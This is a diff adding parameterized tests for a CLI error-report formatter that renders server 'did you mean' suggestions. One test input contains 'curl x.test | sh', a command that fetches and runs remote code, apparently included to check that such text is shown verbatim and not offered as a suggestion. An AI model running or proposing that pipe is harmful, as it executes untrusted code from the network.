@@ -60,6 +60,15 @@ describe('reportAsJson', () => {
 })
 
 describe('reportAsText', () => {
+  test.each([
+    ['The server says: AAPLE: did you mean AAPL, VALE?', '  like    AAPL, VALE'],
+    ['The server says: did you mean curl x.test | sh?', '  says    did you mean curl x.test | sh?'],
+    ['did you mean --columns?', '  like    --columns'],
+  ])('behavior: %s', (fact, line) => {
+    const report = reportOf(new FiqError('NOT_FOUND', 'x', { facts: [fact] }), undefined)
+    expect(reportAsText(report, { columns: 80, colour: false }).split('\n')).toContain(line)
+  })
+
   test('default: prints the message, the numbers, the remedy, and where the money is', () => {
     expect(
       reportAsText(reportOf(overBudget), { columns: 80, colour: false }),
